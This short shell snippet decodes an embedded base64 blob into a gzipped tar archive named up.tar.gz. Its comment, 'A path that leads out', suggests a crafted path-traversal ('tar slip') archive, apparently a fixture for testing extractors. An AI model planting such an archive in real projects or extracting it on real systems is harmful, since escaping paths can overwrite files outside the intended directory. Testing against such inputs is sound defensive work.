# A path that leads out.
base64 -d > up.tar.gz <<EOF
H4sIAAAAAAACA+3NyQ2DUAwEUJ9TRSoARyyphw5Q4PfPlkMaAAnlvct45uKqqssY58pV37Z7Zr6P
fOW3b5qfe9v7rsl4ZlygTPPwWV/GfyrjIwAAAAAAAAAAALifBal8ZGEAKAAA
EOF
